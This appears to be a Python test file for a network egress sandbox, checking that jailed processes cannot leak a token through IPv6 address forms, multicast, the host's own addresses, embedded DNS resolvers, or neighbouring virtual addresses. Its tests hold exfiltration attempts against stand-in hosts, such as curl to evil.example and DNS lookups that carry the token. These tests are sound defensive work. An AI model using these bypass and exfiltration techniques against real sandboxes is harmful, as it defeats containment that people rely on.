# SPDX-License-Identifier: GPL-2.0-or-later
"""E-28 to E-39: IPv6, neighbours, the host itself, and the jail's own addresses."""

from lib import zone
from lib.case import Cases, expect, expect_eq
from lib.commands import attempt, curl, dig, probe

CASES = Cases()

GOOD = ["--allow", "good.example", "--allow", "db.example:5432", "--allow", "udp/ntp.example:123"]
UPSTREAM = [("udp", zone.DNS4, 53)]

# --- E-28, E-30: the same destination in other forms.
CASES.deny("E-28 IPv6, TCP", GOOD, attempt("tcp", zone.v6(66), 999, "{tok}"))
CASES.deny("E-28 IPv6, UDP", GOOD, attempt("udp", zone.v6(66), 999, "{tok}"))
CASES.deny("E-28 curl -6", GOOD, curl("http://evil.example/{tok}", "-6"))
CASES.deny("E-30 v4-mapped, TCP", GOOD, attempt("mapped", zone.v4(66), 999, "{tok}"))
CASES.deny("E-30 v4-mapped, UDP", GOOD, attempt("mapped_udp", zone.v4(66), 999, "{tok}"))
for form, address in (("NAT64", "64:ff9b::cb00:7142"), ("6to4", "2002:cb00:7142::1"),
                      ("Teredo", "2001:0:99::1"), ("unique local", "fd77:99::1"),
                      ("metadata over IPv6", "fd00:ec2::254")):
    for name in ("tcp", "udp"):
        CASES.deny(f"E-30 {form}, {name}", GOOD, attempt(name, address, 999, "{tok}"))
CASES.contain("E-30 v4-compatible", GOOD, attempt("udp", "::203.0.113.66", 999, "{tok}"),
              control=False)

# A rule for an IPv4 address says nothing about forms that embed it, and a deny covers them.
for form, address in (("v4-mapped", f"::ffff:{zone.v4(66)}"), ("NAT64", "64:ff9b::cb00:7142"),
                      ("6to4", "2002:cb00:7142::1")):
    CASES.contain(f"E-30 a deny of the IPv4 address covers {form}",
                  ["--deny", zone.v4(66), "--allow", "any:999"],
                  attempt("tcp", address, 999, "{tok}"), control=False)

# --- E-29, E-35: link-local, multicast, broadcast.
CASES.contain("E-29 all nodes of the link", GOOD, attempt("link_local", 999, "{tok}"))
for address, port in (("224.0.0.251", 5353), ("239.255.255.250", 1900), ("255.255.255.255", 67),
                      ("198.51.100.255", 999), ("224.0.0.252", 5355)):
    CASES.contain(f"E-35 {address}:{port}", GOOD, attempt("multicast", address, port, "{tok}"))
for address, port in (("ff02::fb", 5353), ("ff0e::1", 999), ("ff05::1:3", 547)):
    CASES.contain(f"E-35 {address} port {port}", GOOD, attempt("multicast", address, port, "{tok}"),
                  control=False)

# --- E-36: the machine's own addresses are not the jail's.
for what, address in (("IPv4", zone.HOST4), ("IPv6", zone.HOST6), ("loopback", "127.0.0.1"),
                      ("any address", "0.0.0.0")):
    CASES.deny(f"E-36 this machine's service, {what}", GOOD,
               attempt("tcp", address, zone.PORT_WILDCARD, "{tok}"))
for what, address in (("IPv4", zone.HOST4), ("loopback", "127.0.0.1")):
    CASES.deny(f"E-36 this machine's service, UDP, {what}", GOOD,
               attempt("udp", address, zone.PORT_WILDCARD, "{tok}"))
CASES.deny("E-36 service on the machine's loopback, UDP", GOOD,
           attempt("udp", "127.0.0.1", zone.PORT_LOOPBACK_UDP, "{tok}"))
CASES.deny("E-36 a name that leads to this machine", ["--allow", "hostaddr.example:*"],
           probe("tcp", "hostaddr.example", zone.PORT_WILDCARD, "{tok}"), UPSTREAM)
CASES.deny("E-36 a prefix that contains this machine", ["--allow", "198.51.100.0/24:*"],
           attempt("tcp", zone.HOST4, zone.PORT_WILDCARD, "{tok}"))
CASES.deny("E-36 any", ["--allow", "any:*"], attempt("tcp", zone.HOST4, zone.PORT_WILDCARD,
                                                     "{tok}"))
CASES.reach("E-36 a rule that names it", ["--allow", f"{zone.HOST4}:{zone.PORT_WILDCARD}"],
            attempt("tcp", zone.HOST4, zone.PORT_WILDCARD, "{tok}"))


# --- E-39: an embedded resolver.
for server in ("127.0.0.11", "127.0.0.53", "127.0.0.1", "::1", "10.0.2.3", "169.254.169.253",
               "198.18.0.1", "fd73:616c:6c79::1"):
    for how in ("+notcp", "+tcp"):
        @CASES.case(f"E-39 a resolver at {server}, {how[1:]}")
        def _resolver(t, server=server, how=how):
            tok, marks = t.token(), t.marks()
            result = t.jail(*GOOD)(dig(f"@{server}", how, f"{tok}.evil.example"))
            expect(not t.seen(marks, tok), "it was asked", result)
            expect(not t.leaks(marks), "packets left", result)


# --- The virtual pools: an address stands for a name only once it was given.
for address in ("198.18.0.1", "198.18.0.2", "198.18.0.3", "198.18.77.77", "198.19.255.255",
                "fd73:616c:6c79::1", "fd73:616c:6c79::2", "fd73:616c:6c79::ffff:1"):
    for port in (443, 5432, 22):
        CASES.contain(f"virtual address never given: {address}, TCP {port}", GOOD,
                      attempt("tcp", address, port, "{tok}"), control=False)
    CASES.contain(f"virtual address never given: {address}, UDP 123", GOOD,
                  attempt("udp", address, 123, "{tok}"), control=False)
CASES.deny("virtual address of a name, a port that only another name has", GOOD,
           probe("tcp", "good.example", 5432, "{tok}"), UPSTREAM)
CASES.deny("virtual address of a name, UDP on a port that only another name has", GOOD,
           probe("udp", "good.example", 123, "{tok}"), UPSTREAM)
CASES.deny("virtual address of a name, UDP on an unlisted port", GOOD,
           probe("udp", "ntp.example", 124, "{tok}"), UPSTREAM, control=False)


@CASES.case("the neighbours of a given virtual address are not given")
def _neighbours(t):
    code = """
import ipaddress, socket, sys
first = ipaddress.ip_address(socket.gethostbyname('db.example'))
for step in list(range(-40, 0)) + list(range(1, 40)):
    try:
        s = socket.create_connection((str(first + step), 5432), 1)
        s.sendall(sys.argv[1].encode() + b'\\n')
        print(first + step, s.recv(99))
    except (OSError, ValueError):
        pass
"""
    tok, marks = t.token(), t.marks()
    result = t.jail(*GOOD)(["/usr/bin/python3", "-ISc", code, tok])
    expect_eq(result.out, "", "addresses that answered", result)
    expect(not t.seen(marks, tok), f"{tok} arrived")


# --- The gate's own sockets inside the jail.
@CASES.case("the gate's listeners, spoken to directly, lead nowhere")
def _scan(t):
    for address in ("127.0.0.1", "::1", "198.18.0.1"):
        tok, marks = t.token(), t.marks()
        result = t.jail(*GOOD, "--allow", "*:443", timeout=40)(attempt("scan", address, tok))
        expect(result.status is not None, "it hung", result)
        expect(not t.seen(marks, tok), f"{tok} arrived", result)
        expect(not t.leaks(marks, UPSTREAM), "packets left", result)
